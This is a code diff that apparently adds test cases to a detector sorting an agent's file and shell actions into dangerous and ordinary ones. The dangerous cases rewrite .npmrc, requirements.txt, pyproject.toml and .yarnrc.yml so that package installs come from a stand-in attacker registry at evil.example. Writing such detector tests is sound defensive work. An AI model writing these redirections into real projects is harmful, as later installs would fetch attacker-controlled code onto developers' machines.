@@ -5271,6 +5271,39 @@ ORDINARY += [
     ("Registry", _reg("get", r"HKLM:\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal")),
 ]
 
+# A project's own package settings (S-RULE-211).
+DANGEROUS += [
+    (
+        "FileSystem",
+        _fs("write", r"C:\src\repo\.npmrc", content="registry=http://evil.example/"),
+        "persistence-autostart",
+    ),
+    (
+        "FileSystem",
+        _fs("write", r"C:\src\repo\requirements.txt", content="--extra-index-url http://evil.example/simple\nrequests"),
+        "persistence-autostart",
+    ),
+    (
+        "FileSystem",
+        _fs("write", r"C:\src\repo\pyproject.toml", content="[[tool.uv.index]]\nurl = 'http://evil.example/simple'"),
+        "persistence-autostart",
+    ),
+    (
+        "PowerShell",
+        _ps(r"Set-Content C:\src\repo\.yarnrc.yml 'npmRegistryServer: http://evil.example/'"),
+        "persistence-autostart",
+    ),
+    ("FileSystem", _fs("copy", r"C:\t\x", destination=r"C:\src\repo\.npmrc"), "persistence-autostart"),
+]
+ORDINARY += [
+    ("FileSystem", _fs("write", r"C:\src\repo\requirements.txt", content="requests==2.32.3\nflask>=3")),
+    (
+        "FileSystem",
+        _fs("write", r"C:\src\repo\.npmrc", content="registry=https://registry.npmjs.org/\nsave-exact=true"),
+    ),
+    ("PowerShell", _ps(r"Get-Content C:\src\repo\.npmrc")),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
